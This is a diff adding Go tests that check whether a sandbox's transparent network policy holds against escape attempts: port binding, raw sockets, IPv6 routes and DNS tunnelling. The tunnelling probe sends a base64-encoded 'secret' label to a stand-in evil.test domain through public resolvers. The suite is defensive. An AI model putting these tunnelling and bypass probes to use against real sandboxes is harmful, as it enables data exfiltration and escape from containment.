@@ -147,3 +147,126 @@ echo "udp: $(%[2]s/testprobe udpconn 10.9.9.9 9999)"
 		t.Errorf("no transparent allow record for api.allowed.test in the audit log:\n%s", audit.String())
 	}
 }
+
+// pyDNS is a python3 program: send a DNS query of type TYPE (a number)
+// for NAME to SERVER:53 on a connected UDP socket (which takes answers
+// only from SERVER), print the answer's RCODE and answer count, or the
+// exception's class.
+const pyDNS = `import socket, struct, sys
+q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+for label in sys.argv[2].split("."):
+    q += bytes([len(label)]) + label.encode()
+q += b"\0" + struct.pack(">HH", int(sys.argv[3]), 1)
+s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+try:
+    s.connect((sys.argv[1], 53))
+    s.send(q)
+    a = s.recv(512)
+    print("rcode=%d answers=%d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0]))
+except Exception as e:
+    print(type(e).__name__)
+`
+
+// TestTransparentBypassProbes attacks the transparent path: binding the
+// ports the catcher holds, raw sockets, DNS tunnelling through any
+// server address, addresses of the fake range no name owns, IPv6.
+func TestTransparentBypassProbes(t *testing.T) {
+	needTools(t, "python3", "getent")
+	port, _ := hostServers(t)
+	res := &fakeResolver{}
+	script := fmt.Sprintf(`
+for a in 0.0.0.0 127.0.0.1 198.18.5.5 :: ::1; do echo "bind $a: $(python3 -c '%[3]s' $a %[1]s)"; done
+echo "bind free port: $(python3 -c '%[3]s' 127.0.0.1 8099)"
+echo "raw socket: $(%[2]s/testprobe socket 2 3)"
+echo "raw ipv6 socket: $(%[2]s/testprobe socket 10 3)"
+getent hosts c2VjcmV0.tunnel.evil.test; echo "tunnel getent: $?"
+echo "tunnel via 8.8.8.8: $(python3 -c '%[4]s' 8.8.8.8 c2VjcmV0.tunnel.evil.test 16)"
+echo "tunnel via ipv6 server: $(python3 -c '%[4]s' 2001:4860:4860::8888 c2VjcmV0.tunnel.evil.test 1)"
+echo "allowed via 9.9.9.9: $(python3 -c '%[4]s' 9.9.9.9 allowed.test 1)"
+echo "allowed AAAA: $(python3 -c '%[4]s' 127.0.0.53 allowed.test 28)"
+echo "unowned fake address: $(python3 -c '%[5]s' 198.18.9.9 %[1]s)"
+echo "proxy port elsewhere: $(python3 -c '%[5]s' 198.18.9.9 3128)"
+echo "ipv6 loopback: $(python3 -c '%[5]s' ::1 %[1]s)"
+`, port, probeTarget, pyBind, pyDNS, pyConnect)
+	got, _ := runScript(t, transparentSpec(port), res, nil, script)
+	for key, want := range map[string]string{
+		"bind 0.0.0.0":            "EADDRINUSE",
+		"bind 127.0.0.1":          "EADDRINUSE",
+		"bind 198.18.5.5":         "EADDRINUSE",
+		"bind ::":                 "EADDRINUSE",
+		"bind ::1":                "EADDRINUSE",
+		"bind free port":          "ok", // local binding inside stays allowed
+		"raw socket":              "EPERM",
+		"raw ipv6 socket":         "EPERM",
+		"tunnel getent":           "2",
+		"tunnel via 8.8.8.8":      "rcode=3 answers=0", // NXDOMAIN, from the address asked
+		"tunnel via ipv6 server":  "rcode=3 answers=0",
+		"allowed via 9.9.9.9":     "rcode=0 answers=1",
+		"allowed AAAA":            "rcode=0 answers=0",
+		"unowned fake address":    "ConnectionResetError",
+		"proxy port elsewhere":    "ConnectionRefusedError",
+		"ipv6 loopback":           "ConnectionResetError", // ::1 is no rule's
+	} {
+		if got[key] != want {
+			t.Errorf("%s: got %q, want %q", key, got[key], want)
+		}
+	}
+	if res.wasAsked("c2VjcmV0.tunnel.evil.test") {
+		t.Error("the tunnel's name was resolved on the host")
+	}
+}
+
+// TestTransparentPolicyChangesAtRuntime: in a long-lived sandbox, a rule
+// removed refuses the next connection to the address its name was given
+// (the address keeps its meaning), and a rule added on a new port is
+// caught from then on.
+func TestTransparentPolicyChangesAtRuntime(t *testing.T) {
+	needTools(t, "python3", "getent", "curl")
+	port, _ := hostServers(t)
+	port2, _ := hostServers(t)
+	res := &fakeResolver{}
+	ctx := context.Background()
+	sb, err := sandbox.Provision(ctx, withProbe(t, transparentSpec(port)), sandbox.ProvisionOptions{Resolver: res})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sb.Terminate(ctx)
+	run := func(script string) map[string]string {
+		t.Helper()
+		r, err := sb.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "unset http_proxy HTTP_PROXY ALL_PROXY all_proxy\n" + script}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Logf("output:\n%s%s", r.Stdout, r.Stderr)
+		got := map[string]string{}
+		for _, line := range strings.Split(string(r.Stdout), "\n") {
+			if k, v, ok := strings.Cut(line, ": "); ok {
+				got[k] = strings.TrimSpace(v)
+			}
+		}
+		return got
+	}
+	got := run(fmt.Sprintf(`a=$(getent hosts allowed.test | cut -d' ' -f1); echo "addr: $a"
+echo "before: $(python3 -c '%[1]s' $a %[2]s)"
+echo "new port before: $(python3 -c '%[1]s' 127.0.0.1 %[3]s)"`, pyConnect, port, port2))
+	addr := got["addr"]
+	expect(t, "before the change", got["before"], "HTTP/1.0 200 OK")
+	expect(t, "the new port before the change", got["new port before"], "ConnectionRefusedError")
+
+	if err := sb.SetNetworkPolicy(ctx, sandbox.NetworkPolicy{Mode: netpolicy.Limited,
+		AllowedHosts: []string{"other.test:" + port2, "127.0.0.1:" + port2}}); err != nil {
+		t.Fatal(err)
+	}
+	got = run(fmt.Sprintf(`echo "after: $(python3 -c '%[1]s' %[2]s %[3]s)"
+getent hosts allowed.test; echo "getent after: $?"
+echo "new port: $(curl -sS --noproxy '*' http://other.test:%[4]s/ 2>&1)"
+echo "new port by address: $(python3 -c '%[1]s' 127.0.0.1 %[4]s)"`, pyConnect, addr, port, port2))
+	expect(t, "the old name's address after its rule was removed", got["after"], "ConnectionResetError")
+	expect(t, "the old name after its rule was removed", got["getent after"], "2")
+	expect(t, "a name on a port added at run time", got["new port"], "hello from the host")
+	expect(t, "an address on a port added at run time", got["new port by address"], "HTTP/1.0 200 OK")
+	if s := netpolicy.Summary(sb.NetworkDenied()); !strings.Contains(s, "allowed.test:"+port+" (not allowed)") {
+		t.Errorf("summary %q lacks the refused connection", s)
+	}
+}
